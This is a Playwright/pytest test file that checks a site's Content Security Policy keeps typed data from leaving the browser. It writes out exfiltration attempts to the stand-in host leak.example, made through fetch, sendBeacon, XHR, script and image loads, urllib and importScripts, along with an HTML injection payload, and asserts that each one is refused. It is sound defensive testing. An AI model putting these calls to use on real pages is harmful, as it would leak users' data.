"""The promise of the pages: what is typed cannot leave the machine; the policy refuses before a request is made."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Route

from bookpress.site.policy import POLICY
from tests.browser.conftest import HTML, Visit, pages
from tests.browser.live import cells

pytestmark = pytest.mark.browser
Opener = Callable[..., Visit]
PAGE = "08-dosing-workshop.html"
FROM_THE_PAGE = """async () => {
  const told = [], far = "https://leak.example/";
  const attempt = async (name, way) => { try { await way(); told.push(name); } catch (error) { /* refused */ } };
  const loaded = (made) => new Promise((done, fail) => {
    made.onload = done; made.onerror = fail; document.body.append(made); });
  const made = (name, set) => Object.assign(document.createElement(name), set);
  await attempt("fetch", () => fetch(far, { mode: "no-cors" }));
  navigator.sendBeacon(far, "21 kg"); // its answer tells nothing; whether it was sent is seen outside
  await attempt("request", () => new Promise((done, fail) => {
    const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open("POST", far); r.send("21 kg"); }));
  await attempt("image", () => loaded(made("img", { src: far + "a.png" })));
  await attempt("script", () => loaded(made("script", { src: far + "a.js" })));
  await attempt("style", () => loaded(made("link", { rel: "stylesheet", href: far + "a.css" })));
  await attempt("eval", () => new Function("return 1")());
  return told;
}"""
FROM_PYTHON = """
import js
def attempt(name, way):
    try:
        way()
        print(name, "went through")
    except BaseException as error:
        print(name, "refused")
def request():
    asked = js.XMLHttpRequest.new()
    asked.open("POST", "https://leak.example/", False)
    asked.send("21 kg")
def library():
    import urllib.request
    urllib.request.urlopen("https://leak.example/", timeout=2)
attempt("request", request)
attempt("library", library)
attempt("eval", lambda: js.eval("1"))
attempt("scripts", lambda: js.importScripts("https://leak.example/a.js"))
"""


def test_nothing_leaves_from_the_page(open_page: Opener) -> None:
    visit = open_page(PAGE)
    assert visit.page.evaluate(FROM_THE_PAGE) == []
    assert visit.requests == [], "the policy refused before anything was asked for"
    assert any("Content Security Policy" in line for line in visit.complaints)


def test_nothing_leaves_from_python(open_page: Opener) -> None:
    visit = open_page(PAGE)
    one = cells(visit.page)[0]
    told = one.run(FROM_PYTHON)
    assert told.count("refused") == 4 and "went through" not in told, told
    asked = "from pyodide.ffi import run_sync\nimport js\nrun_sync(js.fetch('https://leak.example/'))"
    assert "Error" in one.run(asked)
    assert visit.requests == []


def test_what_a_cell_draws_loads_nothing_and_runs_nothing(open_page: Opener) -> None:
    visit = open_page(PAGE)
    one = cells(visit.page)[0]
    one.run("""
class Drawing:
    def _repr_html_(self):
        far = "https://leak.example/"
        return (f'<p id="drawn">drawn</p><img src="{far}a.png" onerror="window.hit = 1"><script>window.hit = 2</script>'
                f'<iframe src="{far}"></iframe><meta http-equiv="refresh" content="0;url={far}"><base href="{far}">'
                f'<div style="background:url({far}b.png)" onclick="window.hit = 3">x</div>')
Drawing()
""")
    one.output.locator("#drawn").wait_for()
    one.output.locator("div[onclick]").click()
    assert visit.page.evaluate("window.hit === undefined && document.baseURI === location.href")
    assert one.output.locator("script, iframe, meta, base").count() == 0
    assert visit.requests == []
    assert visit.page.url.startswith(HTML.as_uri())


def test_without_the_policy_the_same_page_would_send(browser: Browser) -> None:
    """The control: these tests see a request when one is made."""
    context = browser.new_context(offline=False)
    bare = POLICY.sub("", (HTML / PAGE).read_text(encoding="utf-8"))
    sent: list[str] = []

    def gate(route: Route) -> None:
        if route.request.url.startswith("https://leak.example/"):
            sent.append(route.request.resource_type)
            route.abort()
        elif route.request.url.endswith(PAGE):
            route.fulfill(body=bare, content_type="text/html")
        else:
            route.continue_()

    context.route("**/*", gate)
    page = context.new_page()
    page.goto((HTML / PAGE).as_uri())
    assert "eval" in page.evaluate(FROM_THE_PAGE)
    context.close()
    assert len(sent) >= 6 and "ping" in sent, sent


@pytest.mark.parametrize("name", pages())
def test_every_page_carries_the_policy_first(name: str) -> None:
    text = (HTML / name).read_text(encoding="utf-8")
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
    assert text.index("Content-Security-Policy") < text.index("<script") and text.index("<head>") < text.index(
        "Content-"
    )
    rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split("; ")}
    assert rules["connect-src"] == rules["default-src"] == ["'none'"]
    assert "http" not in policy and "*" not in policy
    assert not {"'unsafe-inline'", "'unsafe-eval'", "data:", "blob:"} & set(rules["script-src"])
    assert ("'wasm-unsafe-eval'" in rules["script-src"]) == ("live.js" in text) == (rules["worker-src"] == ["data:"])


def test_the_promise_stands_on_every_page_that_runs_python(open_page: Opener) -> None:
    for name in pages():
        if "live.js" not in (HTML / name).read_text(encoding="utf-8"):
            continue
        assert "stays on this machine" in open_page(name).page.locator("main").text_content(), name
